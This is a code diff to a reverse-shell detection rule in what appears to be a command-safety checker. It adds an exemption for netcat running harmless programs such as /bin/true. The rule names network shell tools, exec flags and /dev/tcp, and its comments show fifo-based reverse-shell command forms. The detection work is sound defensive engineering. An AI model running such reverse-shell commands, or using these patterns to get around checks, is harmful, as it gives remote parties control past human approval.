@@ -8,7 +8,7 @@ import { type Sign, shellRule } from './shell-rule.ts';
 export const reverseShell = shellRule(
   {
     id: 'reverse-shell',
-    version: 1,
+    version: 2,
     title: 'Gives a shell to another machine',
     severity: 'critical',
     why: 'Whoever is at the other end types commands here, past every approval.',
@@ -25,6 +25,7 @@ const TALKS = /^(?:nc|ncat|netcat|telnet|socat|nc\.traditional|nc\.openbsd)$/;
 
 const TOOLS: Tools = {
   ...forAll(TALKERS, (program) => (args, command) => {
+    if (answersOnly(args)) return undefined;
     if (has(args, /^(?:-[a-zA-Z]*[ec]|--(?:sh-)?exec(?:=.*)?|--lua-exec)$|^(?:exec|system|shell)[:,]/i))
       return { what: `${program} gives its connection to a program.` };
     return between(command) ? { what: `A shell is joined to a connection by ${program}.` } : undefined;
@@ -46,6 +47,14 @@ function* look(command: ShellCommand, { commands }: ProgramView): Iterable<Sign>
   if (open || files.some((file) => DEV_TCP.test(file))) yield { what: 'A shell is joined to a connection.' };
   const source = command.argv.includes('-c') ? undefined : command.upstream.find(isConnection);
   if (source !== undefined) yield { what: `A shell takes its commands from ${programOf(source)}.` };
+}
+
+/** `nc -l -e /bin/true`: what it starts hears nothing, and says what it always says. */
+function answersOnly(args: readonly string[]): boolean {
+  const [option = '', program = ''] = args.slice(-2);
+  return (
+    /^-[a-z]*e$/.test(option) && /^(?:\/(?:usr\/)?bin\/)?(?:true|false|date|hostname|uptime)$/.test(program)
+  );
 }
 
 /** `sh < fifo | nc HOST PORT > fifo`: a shell before the connection. */
